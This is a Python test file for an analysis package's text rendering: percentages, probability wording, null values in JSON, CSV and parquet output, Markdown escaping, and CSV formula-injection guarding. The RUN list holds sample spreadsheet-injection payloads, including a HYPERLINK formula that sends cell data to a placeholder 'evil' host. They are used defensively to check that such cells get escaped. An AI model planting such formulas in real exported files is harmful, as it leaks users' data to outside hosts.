"""Numbers and tables as text."""

import csv
import io
import json
import math
from types import SimpleNamespace

import pandas as pd
import pyarrow.parquet
import pytest

from analyser.common.estimates import estimate, plus_minus
from analyser.common.text import (
    code_span,
    csv_cell,
    csv_frame,
    csv_of_rows,
    escape_markup,
    frequency_sentence,
    json_text,
    percent,
)
from analyser.results.rendering import FORMATS


@pytest.mark.parametrize("decimals", range(5))
def test_a_share_on_the_edge_is_not_rounded_to_impossible_or_to_certain(decimals):
    half_a_step = 10.0**-decimals / 200
    assert percent(half_a_step, decimals).startswith("<")
    assert percent(1 - half_a_step, decimals).startswith(">")
    assert percent(2 * half_a_step, decimals).strip("0.%") == "1"


@pytest.mark.parametrize(
    ("happened", "trials", "told"),
    [
        (1.0, None, "Reds always win."),
        (0.0, None, "Reds never win."),
        (50, 50, "Reds win in every trial."),
        (0, 50, "Reds win in no trial."),
        (10_000, 10_000, "Reds almost always win."),
        (0, 10_000, "Reds almost never win."),
        (5_000, 10_000, "Reds win 1 time in 2."),
    ],
)
def test_only_an_exact_probability_is_always_or_never(happened, trials, told):
    assert frequency_sentence("Reds", "win", estimate(happened, trials)) == told


def test_a_simulated_share_is_printed_as_impossible_or_certain_nowhere():
    assert [percent(estimate(happened, 50)) for happened in (0, 50)] == ["<7%", ">93%"]
    assert [str(estimate(happened, 200)) for happened in (1, 199)] == ["0.5% (0.0 to 2.6)", "99.5% (97.4 to 100.0)"]


def test_nothing_is_minus_zero():
    assert plus_minus(-0.3, 2, " pp") == "0 pp ±2"
    assert plus_minus(-0.004, 0.02) == "0.00 ±0.02"
    assert plus_minus(-0.6, 2, " pp") == "-1 pp ±2"


@pytest.mark.parametrize("nothing", [math.nan, math.inf, -math.inf])
def test_json_has_null_where_a_number_is_none(nothing):
    data = {"a": nothing, "rows": [{"b": nothing, "c": 1.5}, (nothing, "NaN", None, True)]}
    text = json_text(data, indent=1)
    assert json.loads(text) == {"a": None, "rows": [{"b": None, "c": 1.5}, [None, "NaN", None, True]]}
    assert json_text({"b": 1, "a": 2.5}, sort_keys=True) == json.dumps({"a": 2.5, "b": 1})


def test_every_format_has_nothing_where_a_number_is_none(tmp_path):
    table = [{"unit": "a", "value": 1.5}, {"unit": "b", "value": math.nan}]
    shown = SimpleNamespace(text=lambda: "", record=lambda: table, rows=lambda: table)
    assert json.loads(FORMATS["json"](shown))[1]["value"] is None
    assert FORMATS["csv"](shown) == "unit,value\na,1.5\nb,\n"
    (tmp_path / "t.parquet").write_bytes(FORMATS["parquet"](shown))
    assert pyarrow.parquet.read_table(tmp_path / "t.parquet")["value"].to_pylist() == [1.5, None]


RUN = ['=HYPERLINK("http://evil/?"&A2)', "+1+1", "-1+1", "@SUM(1)", "\t=1", "\n=1"]
RUN += ["'=1", "''@", "--", "\uff1d1", "-1.5a"]
NOT_RUN = ["Guard", "a=b", "it's", "'", "'x", "", "-", "-1.5", "+3", "-.5e-3", "-12%", " =1", -1.5, 3, None, True]


@pytest.mark.parametrize("text", RUN)
def test_text_that_a_spreadsheet_would_run_has_an_apostrophe(text):
    assert csv_cell(text) == f"'{text}"
    frame = pd.DataFrame({"name": ["Guard", text], "cause": pd.Categorical([text, "a"]), "value": [-1.5, 2]})
    said = csv_frame(frame)
    assert said["name"].tolist() == ["Guard", f"'{text}"]
    assert said["cause"].tolist() == [f"'{text}", "a"]
    assert said["value"].tolist() == [-1.5, 2]
    assert frame["name"].tolist() == ["Guard", text]
    (head, cells) = csv.reader(io.StringIO(csv_of_rows([{text: text}]), newline=""))
    assert head == cells == [f"'{text}"]


@pytest.mark.parametrize("cell", NOT_RUN)
def test_numbers_and_other_text_stay_as_they_are(cell):
    assert csv_cell(cell) == cell
    assert type(csv_cell(cell)) is type(cell)


@pytest.mark.parametrize("text", ["a", "`", "``", "a`b", "`a``b`", "x ``` y", "80 -> 75"])
def test_a_code_span_ends_where_its_text_does(text):
    span = code_span(text)
    fence = "`" * (len(span) - len(span.lstrip("`")))
    inside = span.removeprefix(fence).removesuffix(fence)
    assert fence not in inside.replace("`" * (len(fence) + 1), "")
    assert inside.strip() == text


def test_no_text_is_markup_in_markdown():
    assert escape_markup("a | b\n# c <b> `d` **e** [f](g) $h$") == (r"a \| b # c \<b\> \`d\` \*\*e\*\* \[f\](g) \$h\$")


def test_nested_cells_are_json():
    text = csv_of_rows([{"unit": "a", "counts": {"hits": float("nan")}, "names": ("b",)}])
    (row,) = csv.DictReader(io.StringIO(text))
    assert row == {"unit": "a", "counts": '{"hits": null}', "names": '["b"]'}
